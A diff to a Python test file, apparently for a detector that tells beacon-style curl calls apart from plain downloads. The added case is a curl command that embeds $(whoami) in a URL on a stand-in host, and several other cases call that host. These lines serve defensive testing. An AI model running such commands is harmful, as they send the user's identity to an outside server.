@@ -60,6 +60,7 @@ def test_capabilities_come_in_command_order() -> None:
         ("curl https://h.example/installed", "https://h.example/installed"),
         ("echo hi; curl -s 'https://h.example/p?u=1' > /dev/null", "https://h.example/p?u=1"),
         ("sudo curl -fsSL https://h.example/a/b && make", "https://h.example/a/b"),
+        ('curl "https://h.example/u/$(whoami)"', "https://h.example/u/$(whoami)"),
         # saved, piped into a program, or only the host: not a beacon
         ("curl -o out.tgz https://h.example/a.tgz", None),
         ("curl -fsSLO https://h.example/a.tgz", None),
